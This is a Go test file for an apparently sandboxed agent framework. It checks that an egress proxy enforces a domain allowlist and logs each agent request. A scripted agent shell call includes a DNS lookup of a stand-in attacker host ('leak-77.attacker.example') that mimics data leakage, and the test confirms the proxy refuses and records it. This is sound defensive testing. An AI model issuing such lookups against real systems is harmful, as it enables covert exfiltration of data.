package episode

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/docker/docker/api/types/network"

	"github.com/mass-dev/mass/sandbox/docker"
	"github.com/mass-dev/mass/sandbox/egress"
	"github.com/mass-dev/mass/sandbox/image"
	"github.com/mass-dev/mass/sandbox/sandboxtest"
	"github.com/mass-dev/mass/taskspec"
)

// TestEpisodeEgressRecorded: a task with network gets its allowlist into
// the agents' policy, and every request they make through the proxy,
// refused lookups included, lands in egress.jsonl with the agent named
// and is counted in run_status.json; nothing is left on the engine.
func TestEpisodeEgressRecorded(t *testing.T) {
	d, _ := fakeModel(t, script(calls(sh("nslookup data.example.org; nslookup leak-77.attacker.example; wget -q -O- http://data.example.org/ ; true"))), nil)
	proxy, err := sandboxtest.BuildStatic(t.TempDir(), "github.com/mass-dev/mass/sandbox/egress/cmd/mass-egress-proxy")
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	cli := testRT.Client()
	outer := fmt.Sprintf("mass-test-epouter-%d", os.Getpid())
	if _, err := cli.NetworkCreate(ctx, outer, network.CreateOptions{Driver: "bridge", Internal: true}); err != nil {
		t.Fatal(err)
	}
	defer cli.NetworkRemove(ctx, outer)
	rt, err := docker.New(ctx, docker.Config{DaemonID: fmt.Sprintf("eptestegress%d", os.Getpid()), HelperPath: testHelper,
		Image: image.TestRef, Logger: quiet, Client: cli, Egress: docker.EgressConfig{ProxyPath: proxy, Network: outer}})
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	d.Runtime = rt
	spec := testTask(t, 2*time.Minute)
	spec.Network = &taskspec.Network{Allow: []string{"data.example.org"}}
	st, dir := runEpisode(t, d, spec, "")
	if st.Egress == nil || st.Egress.Denied == 0 || st.Egress.Requests < 3 {
		t.Fatalf("status egress = %+v (%s), want requests and a denied lookup", st.Egress, st.Reason)
	}
	f, err := os.Open(filepath.Join(dir, EgressFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := egress.ParseRecords(f)
	if err != nil {
		t.Fatal(err)
	}
	var leak, web bool
	for _, r := range recs {
		leak = leak || r.Domain == "leak-77.attacker.example" && !r.Allowed && r.Agent == "orchestrator"
		web = web || r.Kind == egress.KindHTTP && r.Domain == "data.example.org" && r.Agent == "orchestrator"
	}
	if !leak || !web {
		t.Errorf("egress.jsonl %+v: want the refused lookup and the HTTP request by orchestrator", recs)
	}
	if rep := auditEpisode(t, dir, st.EpisodeID); rep.Egress == nil || rep.Egress.Denied == 0 || rep.Egress.ByAgent["orchestrator"] == 0 {
		t.Errorf("audit egress = %+v, want the orchestrator's requests and the refused lookup", rep.Egress)
	}
	if left, err := rt.List(ctx, st.EpisodeID); err != nil || len(left) != 0 {
		t.Errorf("left on the engine: %+v %v", left, err)
	}
	if strings.Contains(st.Reason, "egress") {
		t.Errorf("reason %q", st.Reason)
	}
}
